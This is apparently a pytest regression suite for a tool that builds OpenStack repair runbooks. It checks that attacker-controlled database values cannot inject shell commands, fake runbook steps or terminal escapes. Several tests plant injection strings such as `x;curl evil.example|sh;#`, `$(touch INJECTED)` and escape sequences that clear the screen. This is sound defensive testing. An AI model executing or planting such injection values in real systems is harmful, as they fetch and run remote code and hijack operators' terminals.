"""Regressions of the red-team pass: database values that reached a shell, a runbook or a terminal.

Each test plants the value the attacker chose in a real seeded deployment, generates the
bundle from it as an operator would, and reads what the operator gets: the runbook's Run
lines and API hints (pasted into a shell), the runbook's Markdown (rendered), and the
CLI's output (printed on a terminal).
"""

from __future__ import annotations

import pytest
from click.testing import CliRunner

from generator.cli import cli
from generator.pipeline import OutputOptions, generate_vm
from generator.plan.vm_common import VmOptions
from generator.seed import Seeder
from tests.bundles import targets_for
from tests.db.plan.test_volume_bundles import generate as generate_volume_bundle
from tests.hostile import (
    ATTACHMENT_ID,
    CELL0_HOST,
    CELL_DB_NAME,
    FAKE_STEP,
    TERMINAL_ESCAPES,
    argv,
    fenced_lines,
    headings,
    inline_code,
    move_cell_database,
    rename_attachment,
    run_line,
)
from tests.volume_world import seed_world as seed_volume_world

pytestmark = pytest.mark.db
RELEASE = "2025.1"
CONTROL = {chr(c) for c in range(0x20)} | {"\x7f"} | {chr(c) for c in range(0x80, 0xA0)}


def stuck_instance(dep, **fields) -> str:
    s = Seeder(dep, seed=5)
    host = s.compute_host("cmp-01")
    s.instance(host=host)
    target = s.instance(host=host, vm_state="error", task_state="deleting", power_state=4)
    s.flush()
    for column, value in fields.items():
        dep.execute("nova", f"UPDATE instances SET {column} = %s WHERE uuid = %s", (value, target.uuid))
    return target.uuid


def soft_delete(dep, uuid: str, out) -> object:
    options = VmOptions(op="soft-delete")
    return generate_vm(uuid, options, targets_for(dep), "auto", OutputOptions(out_dir=out))


def test_cell_database_name_is_one_shell_word_and_the_run_line_works(make_deployment, tmp_path) -> None:
    """`nova $(touch INJECTED)` from cell_mappings.database_connection: the Run line ran `touch`."""
    dep = make_deployment(RELEASE)
    uuid = stuck_instance(dep)
    name = f"{CELL_DB_NAME}_{dep.names['nova'][:20]}"
    move_cell_database(dep, name)
    result = soft_delete(dep, uuid, tmp_path / "out")
    readme = (result.path / "README.md").read_text()
    lines = [ln for ln in fenced_lines(readme) if "precheck-nova.sql" in ln]
    assert lines, readme
    words = argv(lines[0])
    assert name not in lines[0], words  # the database is named by ~/fixpack-nova.cnf, never on the line
    assert words[-2:] == ["<", "sql/10-precheck-nova.sql"], words
    assert f"database = {name}" not in readme  # the example option file shows only a plain name
    # pasted as the runbook says: the real client runs the precheck, and nothing else runs
    done = run_line(lines[0], result.path, tmp_path / "home", dep.server, {"nova": name})
    assert not list(result.path.glob("INJECTED*")), "the database name ran a command"
    assert done.returncode == 0, done.stderr
    assert "precheck passed" in done.stdout


def test_cinder_attachment_id_in_api_hint_is_one_argument(make_deployment, tmp_path) -> None:
    """`x;curl evil.example|sh;#` as volume_attachment.id: the API hint ran `curl … | sh`."""
    dep = make_deployment(RELEASE)
    sc = seed_volume_world(dep, "reset-detached")
    rename_attachment(dep, sc.volume.attachments[0], ATTACHMENT_ID)
    result = generate_volume_bundle(dep, sc, "reset-detached", tmp_path / "out")
    readme = (result.path / "README.md").read_text()
    hints = [c for c in inline_code(readme) if "attachment-delete" in c]
    assert hints, readme
    assert argv(hints[0])[-1] == ATTACHMENT_ID, hints[0]
    assert argv(hints[0])[:2] == ["cinder", "--os-volume-api-version"]


def test_cell0_instance_host_in_api_hint_is_one_argument(make_deployment, tmp_path) -> None:
    """A cell0 instance's `instances.host` is never validated (no compute script): the hint ran it."""
    dep = make_deployment(RELEASE)
    s = Seeder(dep, seed=6)
    s.compute_host("cmp-01")
    target = s.instance(cell="cell0")
    s.flush()
    dep.execute("nova_cell0", "UPDATE instances SET host = %s WHERE uuid = %s", (CELL0_HOST, target.uuid))
    result = soft_delete(dep, target.uuid, tmp_path / "out")
    readme = (result.path / "README.md").read_text()
    hints = [c for c in inline_code(readme) if "service list --host" in c]
    assert hints, readme
    words = argv(hints[0])
    assert words[words.index("--host") + 1] == CELL0_HOST, hints[0]
    done = run_line(hints[0].replace("openstack", "true", 1), tmp_path, tmp_path / "home", dep.server)
    assert done.returncode == 0 and not list(tmp_path.glob("INJECTED*")), "the host ran a command"


def test_vm_state_cannot_add_a_step_to_the_runbook(make_deployment, tmp_path) -> None:
    """vm_state with newlines and a fence became a fake `## INJECTED STEP` with `curl … | sh`."""
    dep = make_deployment(RELEASE)
    uuid = stuck_instance(dep, vm_state=FAKE_STEP, task_state=FAKE_STEP, node=FAKE_STEP)
    result = soft_delete(dep, uuid, tmp_path / "out")
    readme = (result.path / "README.md").read_text()
    assert not [h for h in headings(readme) if "INJECTED" in h], headings(readme)
    assert not [ln for ln in fenced_lines(readme) if "curl" in ln]
    assert not [ln for ln in readme.splitlines() if ln.startswith("```") and ln.strip("`")]


def test_found_lines_print_no_terminal_escapes(make_deployment, tmp_path) -> None:
    """Escape sequences in the CLI's `found:` lines set the title, cleared the screen, hid text."""
    dep = make_deployment(RELEASE)
    uuid = stuck_instance(dep, vm_state=TERMINAL_ESCAPES, task_state=TERMINAL_ESCAPES, node=TERMINAL_ESCAPES)
    urls = {role: dep.url(role).render(with_password=True) for role in ("nova_api", "placement", "cinder")}
    result = CliRunner().invoke(
        cli,
        ["vm", uuid, "--op", "soft-delete", "-o", str(tmp_path / "out"),
         "--nova-api-url", urls["nova_api"], "--placement-url", urls["placement"],
         "--cinder-url", urls["cinder"]],
        color=True,  # what a terminal gets: click strips nothing
        catch_exceptions=False,
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    found = [ln for ln in result.output.splitlines() if ln.lstrip().startswith("found:")]
    assert found and any("owned" in ln for ln in found), result.output
    printed = set(result.output) - {"\n"}
    assert not printed & CONTROL, sorted(printed & CONTROL)
    assert "\\x1b]0;owned\\x07" in result.output  # shown, escaped, for the operator to see


def _cli(args: list[str]) -> object:
    return CliRunner().invoke(cli, args, color=True, catch_exceptions=False)


def _no_control(output: str) -> None:
    printed = set(output) - {"\n"}
    assert not printed & CONTROL, sorted(printed & CONTROL)


def test_schema_detect_prints_alembic_version_escaped(make_deployment) -> None:
    """alembic_version.version_num is read from the database and printed by `fixpack schema detect`."""
    dep = make_deployment(RELEASE)
    dep.execute("cinder", "UPDATE alembic_version SET version_num = %s", ("\x1b]0;owned\x07\x1b[2J",))
    result = _cli(["schema", "detect", "--cinder-url", dep.url("cinder").render(with_password=True)])
    assert "alembic_version=" in result.output, result.output
    _no_control(result.output)
    assert "\\x1b]0;owned\\x07" in result.output


def test_verify_prints_drifted_values_escaped(make_deployment, tmp_path) -> None:
    """`fixpack verify` shows drifted rows value by value: a hostile value must not reach the terminal."""
    dep = make_deployment(RELEASE)
    uuid = stuck_instance(dep)
    bundle = soft_delete(dep, uuid, tmp_path / "out").path
    dep.execute("nova", "UPDATE instances SET task_state = %s WHERE uuid = %s", (TERMINAL_ESCAPES, uuid))
    urls = {role: dep.url(role).render(with_password=True) for role in ("nova_api", "placement", "cinder")}
    result = _cli(["verify", str(bundle), "--nova-api-url", urls["nova_api"],
                   "--placement-url", urls["placement"], "--cinder-url", urls["cinder"]])  # fmt: skip
    assert result.exit_code == 1 and "owned" in result.output, result.output
    _no_control(result.output)


def test_value_that_cannot_be_shown_on_a_command_line_is_refused_in_one_line(
    make_deployment, tmp_path, capsys
) -> None:
    """An attachment id with a newline cannot be a pasted argument: generation stops, one line, exit 5."""
    from generator.cli import main

    dep = make_deployment(RELEASE)
    s = Seeder(dep, seed=7)
    host = s.compute_host("cmp-01")
    target = s.instance(host=host, vm_state="error", task_state="deleting", power_state=4, volumes=1)
    s.flush()
    att = dep.query("cinder", "SELECT id FROM volume_attachment WHERE instance_uuid = %s", (target.uuid,))
    rename_attachment(dep, att[0]["id"], "x\n`curl evil.example|sh`\x1b[2J")
    urls = {role: dep.url(role).render(with_password=True) for role in ("nova_api", "placement", "cinder")}
    with pytest.raises(SystemExit) as stopped:
        main(["vm", target.uuid, "--op", "soft-delete", "-o", str(tmp_path / "out"),
              "--nova-api-url", urls["nova_api"], "--placement-url", urls["placement"],
              "--cinder-url", urls["cinder"]])  # fmt: skip
    err = capsys.readouterr().err
    assert stopped.value.code == 5, err
    assert err.count("\n") == 1 and err.startswith("fixpack: error: refusing to put"), err
    assert "\\x0a" in err and not set(err.rstrip("\n")) & CONTROL
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
